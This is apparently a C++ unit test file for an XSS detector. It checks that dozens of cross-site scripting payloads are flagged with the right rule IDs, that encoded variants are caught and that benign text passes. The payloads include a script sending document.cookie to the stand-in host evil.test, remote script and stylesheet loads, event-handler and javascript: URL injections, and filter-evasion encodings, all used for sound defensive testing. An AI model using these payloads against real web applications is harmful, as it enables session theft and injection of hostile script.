#include <string>
#include <string_view>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"

namespace fnguard::detect {
namespace {

using testing::Detects;

struct AttackCase {
  std::string_view value;
  std::string_view rule;
};

TEST(XssTest, DetectsAttacks) {
  const AttackCase kCases[] = {
      {"<script>fetch('//evil.test/'+document.cookie)</script>", "xss.script_tag"},
      {"<ScRiPt src=//evil.test/x.js>", "xss.script_tag"},
      {"\"><script>prompt(7)</script>", "xss.script_tag"},
      {"<img src=nope onerror=print()>", "xss.event_handler"},
      {"<svg/onload=confirm`3`>", "xss.event_handler"},
      {"<body onpageshow=go()>", "xss.event_handler"},
      {"<details open ontoggle=run(2)>", "xss.event_handler"},
      {"<input autofocus onfocus=steal()>", "xss.event_handler"},
      {"<custom-el onclick=x()>hi</custom-el>", "xss.event_handler"},
      {"<a href=\"javascript:go(1)\">x</a>", "xss.js_url"},
      {"<iframe src=\"JaVaScRiPt:run(9)\"></iframe>", "xss.js_url"},
      {"<form action=javascript:send()><button>go", "xss.js_url"},
      {"<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "xss.js_url"},
      {"<iframe width=1 height=1>", "xss.dangerous_tag"},
      {"<embed src=//evil.test/x.swf>", "xss.dangerous_tag"},
      {"<meta http-equiv=\"refresh\" content=\"0;url=javascript:go()\">", "xss.js_url"},
      {"<base href=//evil.test/>", "xss.dangerous_tag"},
      {"<style>@import 'http://evil.test/x.css';</style>", "xss.css_expression"},
      {"<div style=\"width: expression(run(4))\">", "xss.css_expression"},
      {"\" onmouseover=\"steal(1)", "xss.attribute_breakout"},
      {"' autofocus onfocus=run(5) x='", "xss.attribute_breakout"},
      {"javascript:go(2)", "xss.js_url"},
      {"java\tscript:go(2)", "xss.js_url"},
      {"';alert(8)//", "xss.js_breakout"},
      {"\"-prompt(4)-\"", "xss.js_breakout"},
      {"</script><script>go()</script>", "xss.script_tag"},
  };
  for (const AttackCase& c : kCases) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), c.value, &m)) << c.value;
    EXPECT_GE(m.score, 60) << c.value;
    EXPECT_EQ(m.rule_id, c.rule) << c.value;
    EXPECT_FALSE(m.reason.empty()) << c.value;
  }
}

TEST(XssTest, RuleIdsNameTheTechnique) {
  Match m;
  ASSERT_TRUE(Detects(XssDetector(), "<img src=nope onerror=print()>", &m));
  EXPECT_EQ(m.rule_id, "xss.event_handler");
  ASSERT_TRUE(Detects(XssDetector(), "<a href=\"javascript:go(1)\">x</a>", &m));
  EXPECT_EQ(m.rule_id, "xss.js_url");
  ASSERT_TRUE(Detects(XssDetector(), "<script>go()</script>", &m));
  EXPECT_EQ(m.rule_id, "xss.script_tag");
}

TEST(XssTest, DetectsAfterNormalization) {
  const std::string_view kCases[] = {
      "%3Cscript%3Ego()%3C/script%3E",
      "%253Cimg%2520src%253Dx%2520onerror%253Drun()%253E",
      "&lt;svg onload=run()&gt;",
      "<a href=\"java&#x09;script&colon;go()\">",
      "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;go()\">",
      "\\u003cscript\\u003ego()\\u003c/script\\u003e",
      std::string_view("<scr\0ipt>go()</script>", 23),
      "\xEF\xBC\x9Cscript\xEF\xBC\x9Ego()",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), v, &m)) << v;
  }
}

TEST(XssTest, IgnoresBenignText) {
  const std::string_view kCases[] = {
      "a < b and c > d",
      "x<5",
      "<3 love",
      "I <3 you",
      "if (a<b) { return c; }",
      "**bold** and _italic_ and [link](https://example.com)",
      "Tom & Jerry",
      "John Smith <john@example.com>",
      "<b>bold</b> and <i>italic</i>",
      "<p>Hello <a href=\"https://example.com/page\">there</a></p>",
      "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
      "I love javascript and typescript",
      "javascript: the good parts",
      "on=1",
      "https://example.com/page?onload=1&x=2",
      "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
      "{\"html\":\"<br>\",\"online\":true}",
      "data:image/png;base64,iVBORw0KGgo=",
      "Please confirm your email",
      "It's \"great\" - really",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(XssTest, PathologicalInputsFinish) {
  const std::string_view kUnits[] = {"<", "<a ", "<a x=\"", "'", "{{", "javascript", "on",
                                     "<a onx", "&#", "\"-"};
  for (std::string_view unit : kUnits) {
    std::string big;
    while (big.size() < (1u << 20)) big += unit;
    Match m;
    Detects(XssDetector(), big, &m);
  }
  std::string tail(1 << 20, 'a');
  tail += "<svg onload=go()>";
  Match m;
  EXPECT_TRUE(Detects(XssDetector(), tail, &m));
}

// Each scan without a tag still fires on its own shape.
TEST(XssTest, TaglessScansStillFire) {
  Match m;
  EXPECT_TRUE(Detects(XssDetector(), "\" autofocus onfocus=run(1) x=\"", &m));
  EXPECT_EQ(m.rule_id, "xss.attribute_breakout");
  EXPECT_TRUE(Detects(XssDetector(), "JaVaScRiPt:go(1)", &m));
  EXPECT_EQ(m.rule_id, "xss.js_url");
  EXPECT_TRUE(Detects(XssDetector(), "x';confirm(2);//", &m));
  EXPECT_EQ(m.rule_id, "xss.js_breakout");
  EXPECT_TRUE(Detects(XssDetector(), "{{constructor.constructor('go()')()}}", &m));
  EXPECT_TRUE(Detects(XssDetector(), "x</script>", &m));
  EXPECT_TRUE(Detects(XssDetector(), "prompt`1`", &m));
  EXPECT_TRUE(Detects(XssDetector(), "top['al'+'ert'](1)", &m));
}

}  // namespace
}  // namespace fnguard::detect
